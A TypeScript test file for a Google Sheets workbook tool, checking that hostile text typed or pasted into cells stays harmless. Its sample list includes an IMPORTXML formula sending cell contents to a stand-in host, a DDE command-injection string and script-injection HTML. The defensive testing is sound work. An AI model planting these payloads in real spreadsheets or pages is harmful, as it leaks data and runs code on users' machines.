import { beforeAll, beforeEach, describe, expect, test } from "vitest";
import { type SheetKey, sheetIdOf } from "../../src/workbook/managed.ts";
import { openFindings } from "../../src/workbook/open-findings.ts";
import { locate } from "../../src/workbook/ours.ts";
import { pass } from "../../src/workbook/pass.ts";
import type { CellData, ExtendedValue } from "../../src/workbook/sheets-api.ts";
import type { Snapshot } from "../../src/workbook/snapshot.ts";
import {
  COLLEAGUE,
  type ManagedWorkbook,
  managedCell,
  managedPlace,
  managedSheet,
  managedWorkbooks,
} from "../builders/managed-workbook.ts";
import { occasion } from "../builders/occasion.ts";

let open: () => ManagedWorkbook;
let book: ManagedWorkbook;
beforeAll(async () => {
  open = await managedWorkbooks((first) => {
    const approval = { minutes: "Acta 7", resolution: "Acuerdo 3", date: "2026-02-27" };
    first.keep({ wishes: [{ id: "b", kind: "baseline", author: "ana@alcaldia.example", approval }] });
    first.type("axis:1", "A02", "budget", "sin costo");
    first.type("commission", "Free:1", "mail", "ana@alcaldia.example");
    first.keep();
  });
});
beforeEach(() => {
  book = open();
});

/** Every kind of cell that people type in: sheet, row and columns. */
const TYPED: readonly (readonly [sheet: SheetKey, row: string, columns: readonly string[]])[] = [
  ["axis:1", "top:L01", ["line", "objective"]],
  [
    "axis:1",
    "A01",
    ["action", "term", "means", "resources", "budget", "responsible", "internalSupport", "externalSupport"],
  ],
  ["axis:1", "subtotal:L01", ["means"]],
  ["budget", "P01", ["responsible", "activities", "typedTotal"]],
  ["schedule", "A01", ["activities", "2026-05"]],
  ["strategies", "E01", ["objective", "strategy", "tactic", "tools", "messages", "term"]],
  ["settings", "municipality", ["value"]],
  ["settings", "minutes", ["value"]],
  ["settings", "fromYear", ["value"]],
  ["settings", "approvalDate", ["value"]],
  ["catalogues", "U01", ["name", "detail"]],
  ["commission", "M01", ["mail", "name", "unit", "role"]],
  ["changes", "change:A02:monto", ["reason"]],
];

const HOSTILE: readonly (readonly [string, string])[] = [
  ["a formula", "=1+1"],
  ["a formula that fetches", '=IMPORTXML("http://malo.example/?"&A1,"//a")'],
  ["what some programs take for a formula", "+cmd|' /C calc'!A0"],
  ["an at sign", "@SUM(A1:A9)"],
  ["an apostrophe", "'=1+1"],
  ["HTML", `<img src=x onerror="alert(1)"></script><script>alert('x')</script>&amp;`],
  ["control characters", "uno\u0001\u0007dos\ttres\r\ncuatro\u0000"],
  ["zero-width characters", "\u200b\u200c\u200d\ufeffRe\u00adcursos\u2060"],
  ["emoji", "👩🏽‍💻🇸🇻 listo ✅"],
  ["half an emoji", "roto \ud83d"],
  ["text from right to left", "\u202eodatluser‏ مرحبا"],
  ["digits as text", "0001350-2"],
  ["a number in other digits", "١٢٣"],
  ["infinity", "1e999"],
  ["an error", "#REF!"],
  ["a pattern", "$&$1(.*)+[^"],
  ["a key", "A02"],
  ["the state", '{"schema":99}'],
  ["a name of JavaScript", "__proto__"],
];

describe.each(HOSTILE)("%s", (_what, text) => {
  test("typed into every kind of cell stays what it is, and is text in the log and in Observaciones", () => {
    expectHarmless({ stringValue: text });
  });
});

test("blanks alone stay where people type them, and are no text of an objective", () => {
  expectHarmless({ stringValue: " \u00a0 " }, (column) => column !== "objective");
});

describe("what is no text", () => {
  test.each<[string, ExtendedValue]>([
    ["a date", { numberValue: 46083 }],
    ["a moment", { numberValue: 46083.999 }],
    ["a huge number", { numberValue: 1.7e308 }],
    ["a tiny number", { numberValue: 5e-324 }],
    ["a negative number", { numberValue: -1 }],
    ["a tick", { boolValue: true }],
    ["a formula", { formulaValue: '=IMPORTXML("http://malo.example","//a")' }],
    ["a formula that fails", { formulaValue: "=1/0" }],
  ])("%s in every kind of cell stays what it is", (_what, value) => {
    expectHarmless(value, (column) => column !== "objective");
  });

  test("a number as the text of an objective is its text from then on", () => {
    put("axis:1", "top:L01", "objective", { numberValue: 46083 });
    book.keep();
    expect(managedCell(book.read(), "axis:1", "top:L01", "objective")?.userEnteredValue).toEqual({
      stringValue: "46083",
    });
    expect(book.keep().requests).toEqual([]);
  });
});

test("a number as text is a number where amounts belong, and a text everywhere else", () => {
  expectHarmless({ stringValue: "0001350" }, (column) => column !== "budget" && column !== "typedTotal");
  put("axis:1", "A01", "budget", { stringValue: "0001350" });
  book.keep();
  expect(managedCell(book.read(), "axis:1", "A01", "budget")?.userEnteredValue).toEqual({ numberValue: 1350 });
});

test("texts of 50,000 characters in every kind of cell are kept whole, and what tells of them fits its cells", () => {
  expectHarmless({ stringValue: `=${'á"<😀'.repeat(9_999)}`.padEnd(50_000, "x") });
});

test("what Sheets makes of hostile texts that are pasted stays as Sheets took it, and a formula that names cells becomes text", () => {
  // The local Workspace takes 1e999 for a number that no JSON can carry.
  const texts = HOSTILE.map(([, text]) => text).filter((text) => text !== "1e999");
  const columns = [
    "action",
    "term",
    "means",
    "resources",
    "budget",
    "responsible",
    "internalSupport",
    "externalSupport",
  ];
  for (let first = 0; first < texts.length; first += columns.length) {
    const pasted = columns.map((_column, index) => texts[(first + index) % texts.length]!);
    book.service.paste(book.id, managedPlace(book.read(), "axis:1", "A01", "action"), [pasted], COLLEAGUE);
    const taken = book.read();
    const stood = columns.map((column) => managedCell(taken, "axis:1", "A01", column)?.userEnteredValue);
    book.keep();
    expect(book.keep().requests).toEqual([]);
    const after = book.read();
    expect(columns.map((column) => managedCell(after, "axis:1", "A01", column)?.userEnteredValue)).toEqual(
      stood.map((value) => (/[A-Z]\d/.test(value?.formulaValue ?? "") ? { stringValue: value!.formulaValue } : value)),
    );
    expectNoForeignFormulas();
  }
});

test("reasons typed in Observaciones are text, whatever they look like", () => {
  const { key } = book.keep().findings[0]!;
  for (const [, text] of HOSTILE) {
    put("findings", `obs:${key}`, "reason", { stringValue: text });
    book.keep();
    expect(book.keep().requests).toEqual([]);
    expectNoForeignFormulas();
  }
});

test("what people are told about hostile texts survives the way to the sidebar as it is", () => {
  put("axis:1", "A01", "budget", { stringValue: "</script><script>alert(1)</script>\u2028" });
  const done = book.keep();
  const sent = JSON.parse(JSON.stringify(openFindings(done)));
  expect(sent).toEqual(openFindings(done));
  expect(openFindings(done).some(({ encontrado }) => encontrado.includes("<script>alert(1)</script>"))).toBe(true);
});

/** Puts the value into every kind of typed cell at once; one pass, and the next writes nothing. */
function expectHarmless(value: ExtendedValue, isMeant: (column: string) => boolean = () => true): void {
  const cells = TYPED.flatMap(([sheet, row, columns]) =>
    columns.filter(isMeant).map((column) => [sheet, row, column] as const),
  );
  const before = book.read();
  book.act(cells.map(([sheet, row, column]) => putting(before, sheet, row, column, value)));
  const taken = book.read();
  const stood = cells.map(([sheet, row, column]) => managedCell(taken, sheet, row, column)?.userEnteredValue);
  const done = pass(book.read(), occasion());
  expect(done.kind).toBe("ready");
  book.keep();
  expect(book.keep().requests).toEqual([]);
  const after = book.read();
  const stands = cells.map(([sheet, row, column]) => managedCell(after, sheet, row, column)?.userEnteredValue);
  const changed = cells.flatMap((cell, index) => (same(stood[index], stands[index]) ? [] : [[...cell, stands[index]]]));
  expect(changed).toEqual([]);
  expectNoForeignFormulas();
}

/** In the sheets that cuadros fills with what people typed, only the addresses in Observaciones are formulas. */
function expectNoForeignFormulas(): void {
  const after = book.read();
  for (const sheet of ["log", "findings", "changes", "state"] as const) {
    const { columns } = locate(managedSheet(after, sheet), "key");
    const formulas = (managedSheet(after, sheet).data?.[0]?.rowData ?? []).flatMap(({ values = [] }) =>
      values.filter(
        (cell: CellData, column0) =>
          cell.userEnteredValue?.formulaValue && column0 !== columns.get("cell") && column0 !== columns.get("reason"),
      ),
    );
    expect(formulas).toEqual([]);
  }
}

function put(sheet: SheetKey, row: string, column: string, value: ExtendedValue): void {
  book.act([putting(book.read(), sheet, row, column, value)]);
}

function putting(snapshot: Snapshot, sheet: SheetKey, row: string, column: string, value: ExtendedValue) {
  const { rowIndex0: rowIndex, columnIndex0: columnIndex } = managedPlace(snapshot, sheet, row, column);
  const start = { sheetId: sheetIdOf(sheet), rowIndex, columnIndex };
  return { updateCells: { rows: [{ values: [{ userEnteredValue: value }] }], fields: "userEnteredValue", start } };
}

function same(a: ExtendedValue | undefined, b: ExtendedValue | undefined): boolean {
  return JSON.stringify(a) === JSON.stringify(b);
}
